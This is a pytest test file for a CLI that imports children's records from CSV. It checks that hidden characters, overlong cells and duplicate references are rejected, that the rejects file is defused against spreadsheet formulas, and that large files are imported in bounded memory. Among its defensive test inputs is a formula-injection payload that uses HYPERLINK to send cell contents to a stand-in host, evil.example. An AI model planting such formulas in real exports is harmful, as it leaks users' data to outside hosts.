"""Imports that must not let anything strange in: hidden characters, pasted documents, cells
the CSV reader refuses, formulas in the rejects file, and files too big to hold in memory."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.storage.conftest import Cli, write_csv
from tests.support.postgres import query

STAFF = "staff_ref,name,role\nIRO01,Sam Iro,iro\n"
HEADER = "child_ref,first_name,date_of_birth,iro_ref"


def _children(db: Path | str) -> list[tuple[object, ...]]:
    return query(db, "SELECT child_ref, first_name FROM children ORDER BY id")


@pytest.fixture
def staffed(cli: Cli, tmp_path: Path) -> Cli:
    assert cli("init").returncode == 0
    assert cli("import", "staff", str(write_csv(tmp_path / "staff.csv", STAFF))).returncode == 0
    return cli


def test_hidden_characters_and_overlong_cells_are_row_and_column_errors(
    staffed: Cli, tmp_path: Path
) -> None:
    over_csv_limit = "x" * 200_000  # Python's CSV reader stops at 131,072 characters
    rows = [
        HEADER,
        "C1,Ada,2014-05-01,IRO01",
        "C2,Bo\x00b,2014-05-01,IRO01",
        'C3,"Cy\nline two",2014-05-01,IRO01',
        "C4,\u202eevil,2014-05-01,IRO01",
        f"C5,{'n' * 120_000},2014-05-01,IRO01",
        f"C6,{over_csv_limit},2014-05-01,IRO01",
        f"C7{'r' * 70},Ed,2014-05-01,IRO01",
        "C1,Flo,2014-05-01,IRO01",
        "C9,Gil\u2067,2014-05-01,IRO01",
    ]
    path = tmp_path / "children.csv"
    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8", newline="")
    refused = staffed("import", "children", str(path))
    assert refused.returncode == 1
    assert "Traceback" not in refused.stderr
    # (The file is big enough for a progress bar, whose label comes first.)
    assert [line for line in refused.stderr.splitlines() if " row " in line] == [
        "children.csv row 3, column first_name: has a hidden character at character 3 "
        "(U+0000 a control character): retype the cell without line breaks, tabs or pasted "
        "formatting",
        "children.csv row 4, column first_name: has a hidden character at character 3 "
        "(U+000A a control character): retype the cell without line breaks, tabs or pasted "
        "formatting",
        "children.csv row 5, column first_name: has a hidden character at character 1 "
        "(U+202E RIGHT-TO-LEFT OVERRIDE): retype the cell without line breaks, tabs or pasted "
        "formatting",
        "children.csv row 6, column first_name: is 120,000 characters long; the most this "
        "column takes is 100",
        "children.csv row 7, column (row): has a cell longer than 131,072 characters, which "
        "cannot be a name, reference or date: check the row in the spreadsheet",
        "children.csv row 8, column child_ref: is 72 characters long; the most this column "
        "takes is 64",
        "children.csv row 9, column child_ref: C1 is also on row 2",
        "children.csv row 10, column first_name: has a hidden character at character 4 "
        "(U+2067 RIGHT-TO-LEFT ISOLATE): retype the cell without line breaks, tabs or pasted "
        "formatting",
    ]
    assert "nothing was imported: 8 problem(s) in 8 row(s)" in refused.stderr
    assert _children(staffed.db) == []

    skipped = staffed("import", "children", str(path), "--skip-bad")
    assert skipped.returncode == 0, skipped.stderr
    assert _children(staffed.db) == [("C1", "Ada")]
    with open(tmp_path / "children-rejected.csv", encoding="utf-8-sig", newline="") as handle:
        rejected = list(csv.reader(handle))
    assert [line[0] for line in rejected[1:]] == ["3", "4", "5", "6", "7", "8", "9", "10"]
    assert rejected[4][2] == "n" * 120_000  # as it was, so it can be found and fixed
    assert rejected[5][1:5] == ["", "", "", ""] and "131,072" in rejected[5][5]


def test_rejected_rows_are_defused_like_the_report_exports(staffed: Cli, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "children.csv",
        f"""{HEADER}
C1,Ada,2014-05-01,IRO01
C2,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",not a date,IRO01
+C3,@SUM(A1:A9),2014-05-01,NOBODY
C4,-2+3,2014-13-01,IRO01
""",
    )
    done = staffed("import", "children", str(path), "--skip-bad")
    assert done.returncode == 0, done.stderr
    rejects = tmp_path / "children-rejected.csv"
    assert oct(rejects.stat().st_mode & 0o777) == "0o600"
    with open(rejects, encoding="utf-8-sig", newline="") as handle:
        rejected = list(csv.reader(handle))
    assert rejected[1][:3] == ["3", "C2", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
    assert rejected[2][:3] == ["4", "'+C3", "'@SUM(A1:A9)"]
    assert rejected[3][:3] == ["5", "C4", "'-2+3"]
    for line in rejected[1:]:
        assert not any(cell[:1] in "=+-@\t\r" and cell for cell in line), line


PEAK_SCRIPT = """
import resource, sys, tracemalloc
from bot.cli import main
traced = sys.argv[2] == "traced"
if traced:
    tracemalloc.start()
try:
    main(["import", "children", sys.argv[1]], standalone_mode=False)
finally:
    if traced:
        print("PEAK", tracemalloc.get_traced_memory()[1])
    else:
        print("PEAK", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)
"""


def _children_file(path: Path, rows: int) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        handle.write(HEADER + "\r\n")
        for n in range(rows):
            handle.write(f"{path.stem}-{n:07d},Child {n},2012-0{1 + n % 9}-1{n % 10},IRO01\r\n")
    return path


def _import_peak(cli: Cli, path: Path, measure: str) -> int:
    """The most memory ``hearme import children`` held while it read ``path``: what Python
    allocated (``traced``) or the whole process's resident size (``rss``, no slowdown)."""
    env = {**os.environ, "HEARME_DB": str(cli.db), "HEARME_DATA_KEY": str(cli.key)}
    done = subprocess.run(
        [sys.executable, "-c", PEAK_SCRIPT, str(path), measure],
        env=env,
        capture_output=True,
        text=True,
        timeout=1500,
    )
    assert done.returncode == 0, done.stderr
    assert f"{path.name}: " in done.stdout
    return int(done.stdout.split("PEAK ")[1])


def _bounded(cli: Cli, tmp_path: Path, big_rows: int, measure: str) -> None:
    small = _import_peak(cli, _children_file(tmp_path / "small.csv", 5_000), measure)
    big = _import_peak(cli, _children_file(tmp_path / "big.csv", big_rows), measure)
    # Read whole, the big file alone would need far more than the small import's peak.
    assert big < small * 1.3, f"{big_rows:,} rows peaked at {big:,} bytes, 5,000 at {small:,}"
    assert len(_children(cli.db)) == 5_000 + big_rows


def test_a_big_file_is_imported_in_bounded_memory(staffed: Cli, tmp_path: Path) -> None:
    _bounded(staffed, tmp_path, 60_000, "traced")


@pytest.mark.soak
@pytest.mark.timeout(1800)
@pytest.mark.skipif(not os.environ.get("HEARME_SOAK"), reason="make soak")
def test_a_million_rows_are_imported_in_bounded_memory(staffed: Cli, tmp_path: Path) -> None:
    _bounded(staffed, tmp_path, 1_000_000, "rss")
